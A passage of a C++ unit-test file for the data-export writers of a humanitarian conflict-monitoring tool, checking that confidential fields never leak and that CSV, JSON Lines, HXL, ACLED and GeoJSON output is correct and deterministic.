#include "export/export.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <optional>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "base/status_testing.h"
#include "ingest/acled.h"
#include "tabular/csv.h"
#include "ingest/fields.h"
#include "ingest/hxl.h"
#include "ingest/jsonl.h"
#include "ingest/lifeline_csv.h"
#include "tabular/lifeline_csv.h"
#include "record/canonical.h"
#include "record/schema.h"
#include "record/seal.h"

namespace lifeline::exports {
namespace {

using nlohmann::json;

// Never to be seen in any output.
constexpr char kSecret[] = "SECRET-7f3a-witness";

json Parse(const char* text) {
  json j = json::parse(text, nullptr, /*allow_exceptions=*/false);
  EXPECT_FALSE(j.is_discarded()) << text;
  return j;
}

// The fixture: records as the log holds them (with `recorded` and `by`), each
// with a confidential object holding kSecret.
json Incident1() {
  return Parse(R"({"kind":"incident","id":"inc-1","case":"case-x","sources":["src-a","src-b"],
    "date":"2023-09-19",
    "location":{"name":"Northtown, centre","admin1":"East Province","admin2":"Hill District",
                "country":"AZE","lat":39.81534567890123,"lon":46.7519,"geo_precision":1},
    "event_type":"Explosions/Remote violence","sub_event_type":"Shelling/artillery/missile attack",
    "actors":["Party A","Militia, east"],"fatalities":{"low":2,"best":3,"high":5},"injuries":11,
    "description":"Shelling hit a \"market\", then\nthe hospital road.",
    "note":"two reports","confidential":{"witness":"SECRET-7f3a-witness"},
    "recorded":"2023-09-20T08:15:00Z","by":"editor@example.org"})");
}

json Incident2() {  // as ReadAcledCsv makes them: id with "acled-", note = ACLED's source
  return Parse(R"({"kind":"incident","id":"acled-syr123","case":"case-x","sources":["src-acled-x"],
    "date":"2023-10-15","date_precision":"month",
    "location":{"name":"Riverside","admin1":"West","country":"SYR","lat":35,"lon":-36.5},
    "event_type":"Battles","actors":["Party C","Party D","Party E"],"fatalities":{"best":0},
    "description":"Clashes.","note":"Local media; Radio X",
    "confidential":{"contact":"SECRET-7f3a-witness"},
    "recorded":"2023-10-20T00:00:00+02:00","by":"importer"})");
}

json Incident3() {  // no coordinates, year precision, no fatalities
  return Parse(R"({"kind":"incident","id":"inc-3","case":"case-x","sources":["src-a"],
    "date":"2022-01-01","date_precision":"year","location":{"name":"Southvale"},
    "event_type":"Strategic developments","access_constraint":3,
    "confidential":{"x":{"deep":["SECRET-7f3a-witness"]}},
    "recorded":"2023-01-02T03:04:05Z","by":"editor@example.org"})");
}

json RoadRoute() {
  return Parse(R"({"kind":"route","id":"route-road","case":"case-x","sources":["src-a"],
    "name":"Corridor road","type":"road","from":"Northtown","to":"Border",
    "path":[[39.8,46.75],[39.6,46.6],[39.5123456789012,46.5]],
    "confidential":{"driver":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

json CrossingRoute() {
  return Parse(R"({"kind":"route","id":"route-crossing","case":"case-x","sources":["src-a"],
    "name":"North crossing","type":"crossing","path":[[41.25,45.125]],
    "confidential":{"officer":"SECRET-7f3a-witness","lat":41.2500001},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

json OnePointRoad() {
  return Parse(R"({"kind":"route","id":"route-stub","case":"case-x","sources":["src-a"],
    "name":"Stub","type":"road","path":[[40,45]],"confidential":{"n":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

json PathlessRoute() {
  return Parse(R"({"kind":"route","id":"route-air","case":"case-x","sources":["src-a"],
    "name":"Air bridge","type":"air","confidential":{"n":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

json Movement() {
  return Parse(R"({"kind":"movement","id":"mv-1","case":"case-x","sources":["src-a"],
    "route":"route-road","date":"2023-09-30","direction":"in","operator":"ICRC",
    "outcome":"completed","vehicles":12,"persons":3,
    "cargo":[{"commodity":"flour","quantity":20000,"unit":"kg"},
             {"commodity":"fuel","quantity":1.5,"unit":"l","note":"diesel, \"winter\""}],
    "confidential":{"plate":"SECRET-7f3a-witness"},
    "recorded":"2023-10-01T00:00:00Z","by":"editor@example.org"})");
}

json RouteStatus() {
  return Parse(R"({"kind":"route_status","id":"rs-1","case":"case-x","sources":["src-a"],
    "route":"route-road","from":"2023-09-19T13:00:00+04:00","status":"restricted",
    "restricted":["cargo","commercial"],"imposed_by":"Party A",
    "confidential":{"who":"SECRET-7f3a-witness"},
    "recorded":"2023-09-20T00:00:00Z","by":"editor@example.org"})");
}

json Source() {
  return Parse(R"({"kind":"source","id":"src-a","case":"case-x","publisher":"ICRC",
    "title":"Press release, 19 September","url":"https://example.org/a","publisher_type":"intergovernmental",
    "credibility":2,"confidential":{"phone":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

json Obligation() {
  return Parse(R"({"kind":"obligation","id":"ob-1","case":"case-x","sources":["src-a"],
    "instrument":"interim_measure","title":"Order of 22 February","issued":"2023-02-22",
    "issuer":"Court","binding_on":["Party A","Party B"],
    "rule":{"type":"route_open","route":"route-road","for":["persons","vehicles","cargo"],
            "directions":["in","out"],"from":"2023-02-22"},
    "confidential":{"memo":"SECRET-7f3a-witness"},
    "recorded":"2023-02-23T00:00:00Z","by":"editor@example.org"})");
}

json Baseline() {
  return Parse(R"({"kind":"baseline","id":"bl-1","case":"case-x","sources":["src-a"],
    "route":"route-road","period":{"from":"2022-01-01","to":"2022-06-30"},
    "per_day":{"vehicles":400,"cargo":[{"commodity":"food","quantity":400,"unit":"t"}]},
    "confidential":{"m":"SECRET-7f3a-witness"},
    "recorded":"2023-02-23T00:00:00Z","by":"editor@example.org"})");
}

json CaseRecord() {
  return Parse(R"({"kind":"case","id":"case-x","title":"A case","region":"Region","started":"2022-12-12",
    "population":[{"date":"2022-12-12","count":120000,"sources":["src-a"]}],"public":true,
    "confidential":{"m":"SECRET-7f3a-witness"},
    "recorded":"2022-12-13T00:00:00Z","by":"editor@example.org"})");
}

std::vector<json> AllRecords() {
  return {CaseRecord(), Source(),        Incident1(),   Incident2(),    Incident3(),
          RoadRoute(),  CrossingRoute(), OnePointRoad(), PathlessRoute(), Movement(),
          RouteStatus(), Obligation(),   Baseline()};
}

std::vector<json> Incidents() { return {Incident1(), Incident2(), Incident3()}; }

json WithoutConfidential(json r) {
  r.erase("confidential");
  return r;
}

// --- Every format --------------------------------------------------------

void ExpectNoSecret(const std::string& text, const std::string& what) {
  EXPECT_EQ(text.find(kSecret), std::string::npos) << what << " leaks the confidential value";
  EXPECT_EQ(text.find("SECRET"), std::string::npos) << what << " leaks a confidential value";
  EXPECT_EQ(text.find("confidential"), std::string::npos) << what << " names confidential";
  EXPECT_EQ(text.find("witness"), std::string::npos) << what << " leaks a confidential key";
  EXPECT_EQ(text.find("41.2500001"), std::string::npos) << what << " leaks a confidential number";
}

TEST(ConfidentialTest, NeverInAnyFormat) {
  const std::vector<json> all = AllRecords();
  for (const json& r : all) ASSERT_TRUE(r.contains("confidential")) << r["id"];

  auto jsonl = WriteJsonLines(all);
  ASSERT_OK(jsonl);
  ExpectNoSecret(*jsonl, "JSON Lines");

  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(all, kind);
    ASSERT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
    ExpectNoSecret(*csv, "CSV of " + kind);
  }
  auto hxl = WriteHxlCsv(all);
  ASSERT_OK(hxl);
  ExpectNoSecret(*hxl, "HXL");

  auto acled = WriteAcledCsv(all);
  ASSERT_OK(acled);
  ExpectNoSecret(*acled, "ACLED");

  auto geo = WriteGeoJson(all);
  ASSERT_OK(geo);
  ExpectNoSecret(geo->text, "GeoJSON");
}

// As the log holds them: confidential sealed (record/seal.h). Neither the
// sealed object nor any of its bytes is exported.
TEST(ConfidentialTest, SealedObjectsAreNeverExportedEither) {
  std::vector<json> all = AllRecords();
  const record::SealKey key = record::SealKey::Generate();
  std::vector<std::string> blobs;
  for (json& r : all) {
    ASSERT_TRUE(record::SealRecord(&r, &key).ok()) << r["id"];
    ASSERT_TRUE(record::IsSealedShape(r["confidential"])) << r["id"];
    blobs.push_back(r["confidential"]["sealed"].get<std::string>());
  }
  auto expect_clean = [&](const std::string& text, const std::string& what) {
    ExpectNoSecret(text, what);
    EXPECT_EQ(text.find("xchacha20poly1305"), std::string::npos) << what << " carries a sealed object";
    for (const auto& b : blobs) EXPECT_EQ(text.find(b.substr(0, 24)), std::string::npos) << what << " carries sealed bytes";
  };
  auto jsonl = WriteJsonLines(all);
  ASSERT_OK(jsonl);
  expect_clean(*jsonl, "JSON Lines");
  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(all, kind);
    ASSERT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
    expect_clean(*csv, "CSV of " + kind);
  }
  auto hxl = WriteHxlCsv(all);
  ASSERT_OK(hxl);
  expect_clean(*hxl, "HXL");
  auto acled = WriteAcledCsv(all);
  ASSERT_OK(acled);
  expect_clean(*acled, "ACLED");
  auto geo = WriteGeoJson(all);
  ASSERT_OK(geo);
  expect_clean(geo->text, "GeoJSON");
}

TEST(ConfidentialTest, InputIsNotModified) {
  const std::vector<json> all = AllRecords();
  const std::vector<json> copy = all;
  ASSERT_TRUE(WriteJsonLines(all).ok());
  ASSERT_TRUE(WriteCsv(all, "incident").ok());
  EXPECT_EQ(all, copy);
}

TEST(DeterminismTest, SameRecordsSameBytes) {
  const std::vector<json> all = AllRecords();
  EXPECT_EQ(*WriteJsonLines(all), *WriteJsonLines(AllRecords()));
  EXPECT_EQ(*WriteCsv(all, "incident"), *WriteCsv(AllRecords(), "incident"));
  EXPECT_EQ(*WriteHxlCsv(all), *WriteHxlCsv(AllRecords()));
  EXPECT_EQ(*WriteAcledCsv(all), *WriteAcledCsv(AllRecords()));
  EXPECT_EQ(WriteGeoJson(all)->text, WriteGeoJson(AllRecords())->text);
}

TEST(InputTest, EveryWriterRejectsANonObject) {
  std::vector<json> bad = {Incident1(), json::array({1, 2})};
  EXPECT_EQ(WriteJsonLines(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteCsv(bad, "incident").status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteHxlCsv(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteAcledCsv(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteGeoJson(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_NE(WriteCsv(bad, "incident").status().message().find("record 1"), std::string::npos);
}

// --- JSON Lines ------------------------------------------------------------

TEST(JsonLinesTest, GoldenCanonicalLines) {
  std::vector<json> records = {CrossingRoute(), Source()};
  auto out = WriteJsonLines(records);
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "{\"by\":\"editor@example.org\",\"case\":\"case-x\",\"id\":\"route-crossing\","
            "\"kind\":\"route\",\"name\":\"North crossing\",\"path\":[[41.25,45.125]],"
            "\"recorded\":\"2023-01-01T00:00:00Z\",\"sources\":[\"src-a\"],\"type\":\"crossing\"}\n"
            "{\"by\":\"editor@example.org\",\"case\":\"case-x\",\"credibility\":2,\"id\":\"src-a\","
            "\"kind\":\"source\",\"publisher\":\"ICRC\",\"publisher_type\":\"intergovernmental\","
            "\"recorded\":\"2023-01-01T00:00:00Z\",\"title\":\"Press release, 19 September\","
            "\"url\":\"https://example.org/a\"}\n");
}

TEST(JsonLinesTest, RoundTripsThroughReadJsonLinesByteForByte) {
  const std::vector<json> all = AllRecords();
  auto out = WriteJsonLines(all);
  ASSERT_OK(out);
  ingest::ReadResult back = ingest::ReadJsonLines(*out, {});
  ASSERT_TRUE(back.ok());
  ASSERT_EQ(back.rows.size(), all.size());
  std::string again;
  for (size_t i = 0; i < all.size(); ++i) {
    EXPECT_EQ(back.rows[i].line, i + 1);
    auto entry = record::Canonicalize(WithoutConfidential(all[i]));  // the log's entry, published
    auto reread = record::Canonicalize(back.rows[i].record);
    ASSERT_TRUE(entry.ok() && reread.ok());
    EXPECT_EQ(*reread, *entry) << "record " << i;
    again += *reread + "\n";
  }
  EXPECT_EQ(again, *out);
}

TEST(JsonLinesTest, KeepsUnicodeAndEscapesAsJcsDoes) {
  json r = {{"kind", "note"}, {"id", "u"}, {"text", "Ստեփանակերտ \u00e9\t\"q\"\n"}};
  auto out = WriteJsonLines(std::vector<json>{r});
  ASSERT_OK(out);
  EXPECT_EQ(*out, "{\"id\":\"u\",\"kind\":\"note\",\"text\":\"Ստեփանակերտ é\\t\\\"q\\\"\\n\"}\n");
}

TEST(JsonLinesTest, RefusesNumbersJcsCannotWrite) {
  json r = {{"kind", "stock"}, {"id", "s"}, {"quantity", 9007199254740993ULL}};
  auto out = WriteJsonLines(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_EQ(out.status().code(), ErrorCode::kInvalidArgument);
  EXPECT_NE(out.status().message().find("record \"s\""), std::string::npos) << out.status().message();
}

TEST(JsonLinesTest, EmptyInputIsEmptyFile) { EXPECT_EQ(*WriteJsonLines({}), ""); }

// --- Flat CSV --------------------------------------------------------------

TEST(CsvTest, GoldenIncidents) {
  std::vector<json> records = {Incident1(), Incident3(), Source()};
  auto out = WriteCsv(records, "incident");
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,case,sources,supersedes,note,recorded,by,date,date_precision,location.name,"
            "location.admin1,location.admin2,location.admin3,location.country,location.lat,"
            "location.lon,location.geo_precision,event_type,sub_event_type,access_constraint,"
            "actors,fatalities.low,fatalities.best,fatalities.high,injuries,description,cause,"
            "casualties\r\n"
            "inc-1,case-x,src-a;src-b,,two reports,2023-09-20T08:15:00Z,editor@example.org,"
            "2023-09-19,,\"Northtown, centre\",East Province,Hill District,,AZE,39.81534567890123,"
            "46.7519,1,Explosions/Remote violence,Shelling/artillery/missile attack,,"
            "\"Party A;Militia, east\",2,3,5,11,"
            "\"Shelling hit a \"\"market\"\", then\nthe hospital road.\",,\r\n"
            "inc-3,case-x,src-a,,,2023-01-02T03:04:05Z,editor@example.org,2022-01-01,year,"
            "Southvale,,,,,,,,Strategic developments,,3,,,,,,,,\r\n");
}

TEST(CsvTest, GoldenNestedAndJsonCells) {
  auto out = WriteCsv(std::vector<json>{Movement(), Baseline(), Obligation()}, "movement");
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,case,sources,supersedes,note,recorded,by,route,date,date_precision,direction,"
            "operator,outcome,vehicles,persons,patients,cargo,period.from,period.to,qualifier,"
            "reported_by\r\n"
            "mv-1,case-x,src-a,,,2023-10-01T00:00:00Z,editor@example.org,route-road,2023-09-30,,"
            "in,ICRC,completed,12,3,,"
            "\"[{\"\"commodity\"\":\"\"flour\"\",\"\"quantity\"\":20000,\"\"unit\"\":\"\"kg\"\"},"
            "{\"\"commodity\"\":\"\"fuel\"\",\"\"note\"\":\"\"diesel, \\\"\"winter\\\"\"\"\","
            "\"\"quantity\"\":1.5,\"\"unit\"\":\"\"l\"\"}]\",,,,\r\n");

  auto baseline = WriteCsv(std::vector<json>{Baseline()}, "baseline");
  ASSERT_OK(baseline);
  EXPECT_EQ(*baseline,
            "id,case,sources,supersedes,note,recorded,by,route,period.from,period.to,"
            "per_day.vehicles,per_day.persons,per_day.patients,per_day.cargo,directions\r\n"
            "bl-1,case-x,src-a,,,2023-02-23T00:00:00Z,editor@example.org,route-road,2022-01-01,"
            "2022-06-30,400,,,"
            "\"[{\"\"commodity\"\":\"\"food\"\",\"\"quantity\"\":400,\"\"unit\"\":\"\"t\"\"}]\",\r\n");

  auto obligation = WriteCsv(std::vector<json>{Obligation()}, "obligation");
  ASSERT_OK(obligation);
  EXPECT_EQ(*obligation,
            "id,case,sources,supersedes,note,recorded,by,instrument,title,issued,issuer,binding_on,"
            "text,rule.type,rule.route,rule.for,rule.directions,rule.from,rule.until\r\n"
            "ob-1,case-x,src-a,,,2023-02-23T00:00:00Z,editor@example.org,interim_measure,"
            "Order of 22 February,2023-02-22,Court,Party A;Party B,,route_open,route-road,"
            "persons;vehicles;cargo,in;out,2023-02-22,\r\n");
}

TEST(CsvTest, EscapesCommasQuotesAndLineBreaksPerRfc4180) {
  json r = Incident3();
  r["description"] = "a,b \"c\"\r\nd\re\nf";
  r["note"] = "plain";
  auto out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_OK(out);
  EXPECT_NE(out->find(",plain,"), std::string::npos);  // no quotes when none are needed
  EXPECT_NE(out->find(",\"a,b \"\"c\"\"\r\nd\re\nf\",,\r\n"), std::string::npos) << *out;
  // An independent RFC 4180 reader gets the value back exactly.
  tabular::CsvTable table = tabular::ParseCsv(*out);
  ASSERT_TRUE(table.errors.empty());
  ASSERT_EQ(table.records.size(), 2u);
  const std::vector<std::string> header = CsvColumns("incident");
  ASSERT_EQ(table.records[0].fields, header);
  ASSERT_EQ(table.records[1].fields.size(), header.size());
  const auto& fields = table.records[1].fields;
  EXPECT_EQ(fields[fields.size() - 3], "a,b \"c\"\r\nd\re\nf");  // then cause and casualties
}

TEST(CsvTest, ListsWithSeparatorsOrEmptyItemsBecomeJson) {
  json r = Incident3();
  r["actors"] = {"A; B", "C"};
  auto out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_OK(out);
  EXPECT_NE(out->find(",\"[\"\"A; B\"\",\"\"C\"\"]\","), std::string::npos) << *out;
  r["actors"] = {"A", ""};
  out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_OK(out);
  EXPECT_NE(out->find(",\"[\"\"A\"\",\"\"\"\"]\","), std::string::npos) << *out;
}

TEST(CsvTest, EveryKindHasAHeaderAndRowsOfItsWidth) {
  const std::vector<json> all = AllRecords();
  for (const std::string& kind : record::Kinds()) {
    auto out = WriteCsv(all, kind);
    ASSERT_TRUE(out.ok()) << kind << ": " << out.status().ToString();
    tabular::CsvTable table = tabular::ParseCsv(*out);
    ASSERT_TRUE(table.errors.empty()) << kind;
    ASSERT_GE(table.records.size(), 1u) << kind;
    EXPECT_EQ(table.records[0].fields, CsvColumns(kind)) << kind;
    size_t expected_rows = 0;
    for (const json& r : all) expected_rows += r["kind"] == kind;
    EXPECT_EQ(table.records.size(), expected_rows + 1) << kind;
    for (const auto& row : table.records) EXPECT_EQ(row.fields.size(), CsvColumns(kind).size()) << kind;
  }
}

// The column table in csv.cc repeats the schema's field order, which
// src/record keeps private; this catches a field added to one but not the
// other.
TEST(CsvTest, ColumnsCoverExactlyTheSchemaFields) {
  const json schema = record::JsonSchema();
  const std::set<std::string> envelope = {"kind", "id",         "case",     "sources", "supersedes",
                                          "note", "confidential", "recorded", "by"};
  ASSERT_EQ(schema["oneOf"].size(), record::Kinds().size());
  for (const json& k : schema["oneOf"]) {
    const std::string kind = k["title"];
    std::set<std::string> fields;
    for (auto it = k["properties"].begin(); it != k["properties"].end(); ++it) {
      if (!envelope.count(it.key())) fields.insert(it.key());
    }
    std::set<std::string> columns;
    for (const std::string& c : CsvColumns(kind)) columns.insert(c.substr(0, c.find('.')));
    for (const char* e : {"id", "case", "sources", "supersedes", "note", "recorded", "by"}) {
      EXPECT_EQ(columns.erase(e), 1u) << kind << ": envelope column " << e;
    }
    EXPECT_EQ(columns, fields) << kind;
  }
  // Location columns against the schema's location definition.
  std::set<std::string> loc_fields, loc_columns;
  for (auto it = schema["$defs"]["location"]["properties"].begin();
       it != schema["$defs"]["location"]["properties"].end(); ++it) {
    loc_fields.insert("location." + it.key());
  }
  for (const std::string& c : CsvColumns("incident")) {
    if (c.starts_with("location.")) loc_columns.insert(c);
  }
  EXPECT_EQ(loc_columns, loc_fields);
}

TEST(CsvTest, RefusesUnknownKindsAndFieldsWithoutAColumn) {
  auto bad_kind = WriteCsv(AllRecords(), "incidents");
  EXPECT_EQ(bad_kind.status().code(), ErrorCode::kInvalidArgument);
  EXPECT_TRUE(CsvColumns("incidents").empty());

  json r = Incident3();
  r["weather"] = "rain";
  auto out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("record \"inc-3\": weather"), std::string::npos)
      << out.status().message();

  r = Incident3();
  r["location"]["altitude"] = 3;
  out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("location.altitude"), std::string::npos)
      << out.status().message();

  r = Incident3();
  r["location"]["name"] = json::array({"x"});
  out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("location.name"), std::string::npos) << out.status().message();
}

TEST(CsvTest, NoRecordsGivesTheHeaderOnly) {
  EXPECT_EQ(*WriteCsv({}, "claim"), "id,case,sources,supersedes,note,recorded,by,about,stance,party,text\r\n");
}

// --- Flat CSV round trip (ReadLifelineCsv) ---------------------------------

// Text that CSV and a naive join would mangle: commas, quotes, line breaks
// (CRLF, CR, LF), surrounding spaces, ';', Armenian and Cyrillic.
constexpr char kHardText[] =
    " Ստեփանակերտ, \"Лачинский коридор\"\r\nline two\rthree\nfour; end ";

// One record of every kind with every field of schema v1 set, as the log
// holds them (stamped, with a confidential object). Each is valid
// (FullRecordsAreValid checks it), so the round trip is tested on records
// that can exist.
std::vector<json> FullRecords() {
  const json hard = kHardText;
  std::vector<json> records = {
      Parse(R"({"kind":"case","id":"case-x","sources":["src-a","src-b"],"supersedes":"case-old",
        "title":"Lachin corridor, 2022–23","region":"Нагорный Карабах","country":"AZE",
        "started":"2022-12-12","ended":"2023-09-19",
        "population":[{"date":"2022-12-12","count":120000,"sources":["src-a"],"note":"Ombudsman, \"est.\""},
                      {"date":"2023-09-01","count":100000}],
        "displaced":[{"date":"2023-09-30","count":100617,"sources":["src-b"]}],"public":false,
        "case":"case-old","lifeline_routes":["route-road"],"parties":["Party A","Party B, \"east\""],
        "dependency":[{"commodity":"food","share":0.85,"sources":["src-a"],"note":"imports, 2021"},
                      {"commodity":"water"}],"discrepancy_tolerance":0.15,
        "date_window":{"from":"1990-01-01","until":"2030-12-31"}})"),
      Parse(R"({"kind":"source","id":"src-a","case":"case-x","sources":["src-b"],"supersedes":"src-old",
        "publisher":"ICRC","title":"Press release, 19 September","url":"https://example.org/a?x=1,2",
        "published":"2023-09-19","language":"hy","publisher_type":"intergovernmental",
        "party":"none; neutral","reliability":"B","credibility":2,
        "archived_sha256":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"})"),
      Parse(R"({"kind":"evidence","id":"ev-1","case":"case-x","sources":["src-a"],"supersedes":"ev-0",
        "sha256":"fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210",
        "media_type":"image/jpeg","size":100003,"captured_at":"2023-01-05T10:30:00+04:00",
        "location":{"name":"Shushi, checkpoint","admin1":"Шуши","admin2":"D2","admin3":"D3",
                    "country":"AZE","lat":39.7583,"lon":46.7512,"geo_precision":2},
        "file_name":"IMG 0001, copy.jpg",
        "custody":[{"at":"2023-01-05T11:00:00Z","by":"Ani Petrosyan","action":"received, \"sealed\""}]})"),
      Parse(R"({"kind":"route","id":"route-road","case":"case-x","sources":["src-a"],"supersedes":"route-0",
        "name":"Lachin corridor","type":"road","from":"Stepanakert","to":"Goris",
        "path":[[39.8,46.75],[39.6,46.6],[39.5123456789012,46.5]]})"),
      Parse(R"({"kind":"route_status","id":"rs-1","case":"case-x","sources":["src-a","src-b"],
        "supersedes":"rs-0","route":"route-road","from":"2023-06-15T13:00:00+04:00",
        "until":"2023-09-19","status":"restricted","restricted":["cargo","commercial"],
        "imposed_by":"Azerbaijan","directions":["out"],"controls":"document checks, \"one by one\""})"),
      Parse(R"({"kind":"baseline","id":"bl-1","case":"case-x","sources":["src-a"],"supersedes":"bl-0",
        "route":"route-road","period":{"from":"2022-01-01","to":"2022-06-30"},
        "per_day":{"vehicles":400,"persons":1250.5,"patients":0.1,
                   "cargo":[{"commodity":"food","quantity":400,"unit":"t"},
                            {"commodity":"fuel","quantity":0.30000000000000004,"unit":"l","note":"diesel"}]},
        "directions":["in","out"]})"),
      Parse(R"({"kind":"movement","id":"mv-1","case":"case-x","sources":["src-a"],"supersedes":"mv-0",
        "route":"route-road","date":"2023-09-30","date_precision":"week","direction":"in",
        "period":{"from":"2023-09-01","to":"2023-09-30"},
        "operator":"ICRC","outcome":"turned_back","vehicles":12,"persons":3,"patients":0,
        "cargo":[{"commodity":"flour","quantity":20000,"unit":"kg"},
                 {"commodity":"fuel","quantity":1.5,"unit":"l","note":"diesel, \"winter\""}],
        "qualifier":"at_least","reported_by":"Party A; ministry"})"),
      Parse(R"({"kind":"incident","id":"inc-1","case":"case-x","sources":["src-a","src-b"],
        "supersedes":"inc-0","date":"2023-09-19","date_precision":"day",
        "location":{"name":"Northtown, centre","admin1":"East Province","admin2":"Hill District",
                    "admin3":"Ward 3","country":"AZE","lat":-39.81534567890123,"lon":46.7519,"geo_precision":1},
        "event_type":"Explosions/Remote violence","sub_event_type":"Shelling/artillery/missile attack",
        "access_constraint":9,"actors":["Party A","Militia, east","[bracketed]"],
        "fatalities":{"low":2,"best":3,"high":5},"injuries":11,"cause":"hostilities",
        "casualties":[{"party":"Party A","category":"civilian","fatalities":{"low":2,"best":2,"high":3},
                       "injuries":11,"reported_by":"Party B","note":"names, \"listed\""},
                      {"party":"Party B","category":"combatant","fatalities":{"low":0,"best":1,"high":2}}]})"),
      Parse(R"({"kind":"outage","id":"out-1","case":"case-x","sources":["src-a"],"supersedes":"out-0",
        "utility":"gas","from":"2023-01-17T00:00:00Z","until":"2023-02-01","area":"Степанакерт",
        "cause":"pipeline, damaged","attributed_to":"Party A","scope":"supply_line",
        "confirmed_until":"2023-01-20T12:00:00+04:00"})"),
      Parse(R"({"kind":"schedule","id":"sch-1","case":"case-x","sources":["src-a"],"supersedes":"sch-0",
        "utility":"electricity","from":"2023-01-10","until":"2023-02-01T18:00:00+04:00",
        "hours_off_per_day":6.5,"area":"Степанакерт, \"centre\"","confirmed_until":"2023-01-31"})"),
      Parse(R"({"kind":"watch","id":"w-1","case":"case-x","sources":["src-a"],"supersedes":"w-0",
        "route":"route-road","from":"2023-01-01","to":"2023-01-31","directions":["in"],
        "measures":["vehicles","cargo"]})"),
      Parse(R"({"kind":"requirement","id":"rq-1","case":"case-x","sources":["src-a"],"supersedes":"rq-0",
        "measure":"cargo","commodity":"fuel, diesel","quantity":1000000,"unit":"l","per":"week",
        "routes":["route-road"],"from":"2023-01-01","until":"2023-06-30","basis":"OCHA flash appeal, \"p. 4\""})"),
      Parse(R"({"kind":"obligation","id":"ob-1","case":"case-x","sources":["src-a"],"supersedes":"ob-0",
        "instrument":"interim_measure","title":"Order of 22 February","issued":"2023-02-22",
        "issuer":"ICJ","binding_on":["Party A; its forces","Party B"],
        "rule":{"type":"route_open","route":"route-road","for":["persons","vehicles","cargo"],
                "directions":["in","out"],"from":"2023-02-22","until":"2023-12-31"}})"),
      Parse(R"({"kind":"need_standard","id":"ns-1","case":"case-x","sources":["src-a"],"supersedes":"ns-0",
        "commodity":"food","quantity":0.575,"unit":"kg","basis":"Sphere, 2,100 kcal",
        "equivalents":[{"commodity":"wheat flour","quantity":1,"unit":"kg","note":"counted as food by weight"}]})"),
      Parse(R"({"kind":"stock","id":"st-1","case":"case-x","sources":["src-a"],"supersedes":"st-0",
        "commodity":"flour","date":"2023-08-01","quantity":1234.5678901234567,"unit":"t","area":"Stepanakert"})"),
      Parse(R"({"kind":"claim","id":"cl-1","case":"case-x","sources":["src-b"],"supersedes":"cl-0",
        "about":"inc-1","stance":"disputes","party":"Azerbaijan"})"),
      Parse(R"({"kind":"retraction","id":"rt-1","case":"case-x","sources":["src-b"],"supersedes":"rt-0",
        "retracts":"inc-0"})"),
  };
  // The hard text in every free-text field the envelope and kinds have.
  const std::map<std::string, std::vector<std::string>> text_fields = {
      {"evidence", {"description"}}, {"route", {"description"}}, {"incident", {"description"}},
      {"obligation", {"text"}},      {"claim", {"text"}},        {"retraction", {"reason"}}};
  for (json& r : records) {
    r["note"] = hard;
    auto it = text_fields.find(r["kind"]);
    if (it != text_fields.end()) {
      for (const std::string& f : it->second) r[f] = hard;
    }
    r["confidential"] = {{"witness", kSecret}};
    r["recorded"] = "2023-09-20T08:15:00Z";
    r["by"] = "редактор@example.org";
  }
  return records;
}

// The record as the log's canonical entry would parse, minus `drop`.
json Entry(json r, std::initializer_list<const char*> drop) {
  for (const char* d : drop) r.erase(d);
  Result<std::string> text = record::Canonicalize(r);
  EXPECT_OK(text);
  return json::parse(*text);
}

// Numbers must come back with their type (an integer count is not 3.0), which
// json's operator== does not compare.
void ExpectSameNumberTypes(const json& want, const json& got, const std::string& path) {
  if (want.is_number()) {
    EXPECT_EQ(want.is_number_float(), got.is_number_float()) << path << ": " << want << " vs " << got;
    return;
  }
  if (want.is_object() && got.is_object()) {
    for (auto it = want.begin(); it != want.end(); ++it) {
      if (got.contains(it.key())) ExpectSameNumberTypes(*it, got[it.key()], path + "." + it.key());
    }
  } else if (want.is_array() && got.is_array() && want.size() == got.size()) {
    for (size_t i = 0; i < want.size(); ++i) {
      ExpectSameNumberTypes(want[i], got[i], path + "[" + std::to_string(i) + "]");
    }
  }
}

TEST(CsvRoundTripTest, FullRecordsAreValidAndCoverEveryKindAndColumn) {
  const std::vector<json> records = FullRecords();
  std::set<std::string> kinds;
  for (const json& r : records) {
    kinds.insert(r["kind"]);
    std::vector<record::FieldError> errors = record::Validate(r, nullptr, {.allow_server_fields = true});
    EXPECT_TRUE(errors.empty()) << r["id"] << ": " << (errors.empty() ? "" : errors[0].field + " " + errors[0].message);
    // Every column of the kind has a value: no field is left untested.
    auto csv = WriteCsv(std::vector<json>{r}, r["kind"].get<std::string>());
    ASSERT_OK(csv);
    tabular::CsvTable table = tabular::ParseCsv(*csv);
